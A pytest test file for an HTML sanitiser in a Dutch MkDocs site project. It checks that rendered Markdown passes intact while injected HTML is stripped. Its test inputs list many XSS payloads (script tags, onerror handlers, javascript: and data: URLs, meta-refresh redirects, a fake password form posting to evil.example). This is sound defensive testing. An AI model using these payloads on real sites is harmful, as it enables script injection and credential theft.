"""The sanitiser at the sink (coplimburg.pages.bodies): what MkDocs renders from a text keeps everything our Markdown
extensions write and loses every construct that runs, loads from elsewhere, navigates, takes input or restyles the
page; the editor macros' HTML comes back unchanged from behind its placeholder."""

from __future__ import annotations

import lxml.html
import pytest
from pages import content, page
from sitebuild import render_markdown

from coplimburg.pages.bodies import Held, clean_body

PERMALINK = '<a class="headerlink" href="#{0}" title="Link naar dit onderdeel">¶</a>'

EVERYTHING_WE_WRITE = """# Kop

Tekst met *nadruk*, **vet**, `<code>`, een [link](https://example.org/ "titel"), [mail](mailto:a@b.nl),
[bel](tel:+31431234567), [anker](#kop), [pagina](/agenda/), <https://example.org/pad?a=1&b=2> en HTML.
Nieuwe regel na twee spaties.

*[HTML]: HyperText Markup Language

| Links | Midden | Rechts | Gewoon |
|:------|:------:|-------:|--------|
| a     | b      | c      | d      |

!!! note "Let op"
    Een admonition met **tekst**.

!!! warning
    Nog een.

Term
:   Definitie

<details markdown>
<summary>Meer</summary>
Inhoud *hier*.
</details>

1. een
2. twee

- punt
    - dieper

> Een citaat.

![Logo](../assets/images/cop-logo.png){ width="120" }
![Met titel](images/a.png "titel")

    ingesprongen <code>

```python
print("<b>")
```

---

## Kop met eigen anker {: #eigen .klasse }

Alinea met klasse
{: .opvallend lang="en" }

<p lang="en" dir="ltr" title="t" class="k" id="alinea">raw <abbr title="x">x</abbr> <kbd>Ctrl</kbd> <mark>m</mark>
<sub>1</sub><sup>2</sup> <del>d</del> <ins>i</ins> <q>q</q> <s>s</s> <small>s</small> <span>s</span>
<time datetime="2026-01-01">1 jan</time> <var>v</var> <samp>s</samp> <dfn>d</dfn> <cite>c</cite> <bdi>b</bdi>
<u>u</u> <b>b</b> <i>i</i> <br> <wbr></p>

<table><caption>c</caption><colgroup><col span="2"></colgroup>
<thead><tr><th scope="col" colspan="2" align="left">h</th></tr></thead>
<tbody><tr><td rowspan="1">d</td><td>e</td></tr></tbody><tfoot><tr><td>f</td><td>g</td></tr></tfoot></table>

<figure><img src="images/b.png" alt="b" width="10" height="10"><figcaption>Onderschrift</figcaption></figure>

<ol start="3" reversed type="a"><li>x</li></ol>

<details open><summary>Open</summary>Tekst.</details>
"""


def tree(fragment: str) -> Tree:
    """A fragment as a parser reads it: equal for equal elements, attributes and text, whatever the serialiser
    (`<hr />` or `<hr>`, `open` or `open=""`) and the white space between elements."""
    return _tree(lxml.html.fragment_fromstring(fragment, create_parent="div"))


Tree = tuple[str, tuple[tuple[str, str], ...], str, tuple["Tree", ...], str]


def _tree(element: lxml.html.HtmlElement) -> Tree:
    attributes = tuple(sorted((name, value or "") for name, value in element.attrib.items()))
    children = tuple(_tree(child) for child in element if isinstance(child.tag, str))
    return (element.tag, attributes, (element.text or "").strip(), children, (element.tail or "").strip())


def test_everything_our_markdown_extensions_write_passes_unchanged():
    rendered = render_markdown(EVERYTHING_WE_WRITE)
    assert tree(clean_body(rendered)) == tree(rendered)


# Raw HTML in a text: what survives of each construct.
RAW = [
    ("<script>window.x=1</script><p>t</p>", "<p>t</p>"),
    ('<p><img src="x.png" alt="a" onerror="alert(1)"></p>', '<p><img src="x.png" alt="a"></p>'),
    ('<p><a href="javascript:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="JaVaScRiPt:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="java&#x09;script:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="vbscript:msgbox(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="https://www.leijgraaf.nl\\@evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="https://leijgraaf.nl@evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">t', "<p>t</p>"),
    ('<base href="https://evil.example/">t', "<p>t</p>"),
    ('<link rel="stylesheet" href="https://evil.example/s.css">t', "<p>t</p>"),
    ('<iframe src="https://evil.example/">binnen</iframe><p>t</p>', "<p>t</p>"),
    ('<object data="https://evil.example/o"><param name="a" value="b"></object><p>t</p>', "<p>t</p>"),
    ('<embed src="https://evil.example/e">t', "<p>t</p>"),
    (
        '<form action="https://evil.example/"><label>Wachtwoord <input type="password" name="p"></label>'
        "<button>Inloggen</button><select><option>a</option></select><textarea>x</textarea></form><p>t</p>",
        "<p>t</p>",
    ),
    ('<p style="background:url(javascript:alert(1))">t</p>', "<p>t</p>"),
    ('<p style="color: red">t</p>', "<p>t</p>"),
    (
        '<table><tr><td style="text-align: center; background: url(x)">t</td></tr></table>',
        "<table><tbody><tr><td>t</td></tr></tbody></table>",
    ),
    ('<div id="__config">{}</div>', "<div>{}</div>"),
    ('<p><img src="a.png" alt="a" name="__md_scope"></p>', '<p><img src="a.png" alt="a"></p>'),
    ('<p><img src="https://evil.example/p.png" alt="p">t</p>', "<p>t</p>"),
    ('<p><img src="//evil.example/p.png" alt="p">t</p>', "<p>t</p>"),
    ('<p><img src="\\\\evil.example/p.png" alt="p">t</p>', "<p>t</p>"),
    ('<p><img src="data:image/png;base64,AAAA" alt="p">t</p>', "<p>t</p>"),
    ('<p><img src="a.png" alt="a" srcset="https://evil.example/a.png 2x"></p>', '<p><img src="a.png" alt="a"></p>'),
    ('<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>s</text></a></svg>t', "<p>t</p>"),
    ('<math><mi xlink:href="javascript:alert(1)">m</mi></math><p>t</p>', "<p>t</p>"),
    (
        '<details open ontoggle="alert(1)"><summary>s</summary>t</details>',
        "<details open><summary>s</summary>t</details>",
    ),
    ("<p>t<!-- <script>alert(1)</script> --></p>", "<p>t</p>"),
    ("<noscript><img src=x onerror=alert(1)></noscript><p>t</p>", "<p>t</p>"),
    ("<template><script>alert(1)</script></template>t", "<p>t</p>"),
    ("<style>p { background: url(https://evil.example/) }</style><p>t</p>", "<p>t</p>"),
    ('<video src="v.mp4" poster="https://evil.example/p.png"></video><audio src="a.mp3"></audio>t', "<p>t</p>"),
    (
        '<p><a href="https://example.org/" target="_blank" rel="opener" data-md-component="x" aria-hidden="true" '
        'role="button">x</a></p>',
        '<p><a href="https://example.org/">x</a></p>',
    ),
]


@pytest.mark.parametrize(("written", "kept"), RAW, ids=[written[:40] for written, _ in RAW])
def test_raw_html_keeps_only_what_the_allow_list_names(written, kept):
    assert tree(clean_body(render_markdown(written))) == tree(kept)


# Markdown of its own, and attribute lists on every kind of element they reach.
MARKDOWN = [
    ('Alinea\n{: onclick="alert(1)" }', "<p>Alinea</p>"),
    ('Alinea\n{: style="background:url(https://evil.example/x.png)" }', "<p>Alinea</p>"),
    ('Alinea\n{: name="__md_scope" data-md-component="dialog" }', "<p>Alinea</p>"),
    ("# Kop {: #__config }", "<h1>Kop" + PERMALINK.format("__config") + "</h1>"),
    ('# Kop {: onmouseover="alert(1)" .k }', '<h1 class="k" id="kop">Kop' + PERMALINK.format("kop") + "</h1>"),
    ("# __config", "<h1>__config" + PERMALINK.format("__config") + "</h1>"),
    ('[a](https://example.org/){: onclick="alert(1)" target="_blank" }', '<p><a href="https://example.org/">a</a></p>'),
    ('![a](images/a.png){: onerror="alert(1)" width="120" }', '<p><img alt="a" src="images/a.png" width="120"></p>'),
    ('*nadruk*{: onmouseover="alert(1)" }', "<p><em>nadruk</em></p>"),
    (
        '| a {: onclick="alert(1)" } |\n|---|\n| b |',
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
    ),
    ('Term {: onclick="alert(1)" }\n:   Definitie', "<dl><dt>Term</dt><dd>Definitie</dd></dl>"),
    ('- punt\n{: onclick="alert(1)" }', "<ul><li>punt</li></ul>"),
    ("![pixel](https://evil.example/p.png)", "<p></p>"),
    ("![pixel][volg]\n\n[volg]: https://evil.example/p.png", "<p></p>"),
    ("[x](javascript:alert(1))", "<p><a>x</a></p>"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "<p><a>x</a></p>"),
    ("<javascript://%0aalert(1)>", "<p><a>javascript://%0aalert(1)</a></p>"),
    ('<div markdown>\n*x* <span onclick="alert(1)">y</span>\n</div>', "<div><p><em>x</em> <span>y</span></p></div>"),
]


@pytest.mark.parametrize(("written", "kept"), MARKDOWN, ids=[written[:40] for written, _ in MARKDOWN])
def test_markdown_links_images_and_attribute_lists_keep_only_what_the_allow_list_names(written, kept):
    assert tree(clean_body(render_markdown(written))) == tree(kept)


def test_code_shows_html_as_text():
    cleaned = clean_body(render_markdown("`<script>alert(1)</script>`\n\n```\n<img src=x onerror=alert(1)>\n```\n"))
    codes = [code.text_content() for code in lxml.html.fragment_fromstring(cleaned, create_parent="div").iter("code")]
    assert codes == ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>\n"]


# Our macros' HTML

MACRO_HTML = (
    '<div class="cop-macro"><ul class="cop-events" data-cop-upcoming data-pagefind-ignore>'
    '<li class="cop-event" data-cop-ends="2026-12-10T17:00:00+01:00"><time datetime="2026-12-10">10 dec</time></li>'
    '</ul><p class="cop-empty" data-cop-empty hidden>Geen.</p>'
    '<svg role="img" aria-label="grafiek" viewBox="0 0 10 10"><rect width="5" height="5"></rect></svg></div>'
)


def test_a_macros_html_comes_back_unchanged_while_the_editors_html_beside_it_is_cleaned():
    held = Held()
    source = f'# Kop\n\n{held.hold(MACRO_HTML)}\n\nTekst <span data-cop-upcoming onclick="alert(1)">nagemaakt</span>\n'
    restored = held.restore(clean_body(render_markdown(source)))
    assert MACRO_HTML in restored  # byte for byte
    root = lxml.html.fragment_fromstring(restored, create_parent="div")
    assert [dict(span.attrib) for span in root.iter("span")] == [{}]
    assert len(root.xpath("//*[@data-cop-upcoming]")) == 1


def test_a_macro_written_inside_a_sentence_comes_back_inline():
    held = Held()
    placeholder = held.hold('<a href="x/" data-y>x</a>')
    restored = held.restore(clean_body(render_markdown(f"Zie {placeholder} hier.")))
    assert restored == '<p>Zie <a href="x/" data-y>x</a> hier.</p>'


def test_a_placeholder_is_a_secret_of_its_build():
    one, other = Held(), Held()
    assert one.hold("<b>x</b>") != other.hold("<b>x</b>")
    foreign = clean_body(render_markdown(other.hold("<script>alert(1)</script>")))
    assert "<script" not in one.restore(foreign)


def test_the_sample_sites_macro_pages_keep_their_data_and_aria_attributes(built_site):
    home = content(page(built_site, ""))
    assert home.xpath(".//ul[@data-cop-upcoming]/li[@data-cop-ends]/time[@datetime]")
    assert home.xpath(".//p[@data-cop-empty][@hidden]")
    partners = content(page(built_site, "partners/"))
    (matrix,) = partners.xpath('.//table[contains(@class, "cop-matrix")]')
    assert matrix.get("role") == "table" and matrix.get("aria-describedby") == "wie-doet-wat-noot"
    assert matrix.xpath(".//td[@data-label][@role='cell']")
